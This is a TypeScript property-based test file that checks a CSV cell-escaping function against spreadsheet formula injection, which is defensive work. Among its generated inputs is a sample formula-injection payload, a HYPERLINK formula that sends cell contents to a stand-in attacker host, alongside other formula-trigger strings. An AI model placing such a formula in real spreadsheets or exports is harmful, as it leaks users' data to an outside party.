import * as fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvText } from './csv-cell.ts'

/** The first cell of a line of CSV, read as RFC 4180 says. */
function readCell(csv: string): string {
  if (!csv.startsWith('"')) return /^[^,\r\n]*/.exec(csv)?.[0] ?? ''
  let text = ''
  for (let at = 1; at < csv.length; at++) {
    if (csv[at] !== '"') text += csv[at]
    else if (csv[at + 1] === '"') text += csv[at++]
    else return text
  }
  throw new Error('the quotes are not closed')
}

const text = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.stringMatching(/^[=+@,;"'\r\n\t-]{0,6}[a-z]?$/),
  fc.constantFrom('=HYPERLINK("http://evil.example?"&A1,"x")', '@SUM(1)', '-2+3', '\0=1', '＝1+1'),
)

it('a cell is read as the text it was, but for the apostrophe before a formula', () => {
  fc.assert(
    fc.property(text, (value) => {
      const read = readCell(`${csvText(value)},next`)
      expect(read.startsWith("'") && !value.startsWith("'") ? read.slice(1) : read).toBe(value)
    }),
  )
})

it('no cell begins with what a spreadsheet calculates', () => {
  fc.assert(
    fc.property(text, (value) => {
      expect(readCell(`${csvText(value)},next`)).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
    }),
  )
})

it('a cell is one cell of one line, whichever separator', () => {
  fc.assert(
    fc.property(text, (value) => {
      const cell = csvText(value)
      expect(/^"(?:[^"]|"")*"$/.test(cell) || !/[",;\r\n]/.test(cell)).toBe(true)
    }),
  )
})
